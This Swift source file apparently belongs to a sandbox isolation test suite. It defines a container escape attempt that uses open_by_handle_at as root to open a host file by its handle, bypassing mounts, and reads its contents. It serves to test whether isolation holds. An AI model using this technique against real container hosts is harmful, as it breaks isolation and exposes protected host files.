import CLinux
import Glibc

extension Attack {
    /// The host gives the handle away; an attacker would have to guess it, which is feasible.
    static let openByHandle = Attack(
        "escape-open-by-handle", .privileges, .privileges,
        "Opens a hidden file of the host by its handle, past all mounts",
        control: .asRoot
    ) { attempt throws(AttackFault) in
        var handle = try Hexadecimal.bytes(attempt["handle"])
        for place in ["/usr", "/etc", "/"] {
            guard let mount = attempt.open(place, O_RDONLY) else { continue }
            defer { close(mount) }
            let file = handle.withUnsafeMutableBytes {
                attempt.call(
                    "open_by_handle_at", SYS_open_by_handle_at, Int(mount), SystemCall.address($0.baseAddress), 0)
            }
            if let file { attempt.take(Attempt.bytes(of: Int32(file), limit: 4096)) }
        }
    } host: { trial in
        let file = try trial.file(in: "/var/tmp")
        var handle = [UInt8](repeating: 0, count: 8 + 128)
        handle[0] = 128
        var mount: Int32 = 0
        let result = handle.withUnsafeMutableBytes { handle in
            withUnsafeMutablePointer(to: &mount) { mount in
                withAddress(of: file.path) {
                    SystemCall.make(
                        SYS_name_to_handle_at, Int(AT_FDCWD), $0, SystemCall.address(handle.baseAddress),
                        SystemCall.address(mount), 0)
                }
            }
        }
        guard result == 0 else { throw AttackFault.notApplicable(reason: "this file system has no handles") }
        return trial.judge(try await trial.attempt(["handle": Hexadecimal.text(handle)]))
    }
}
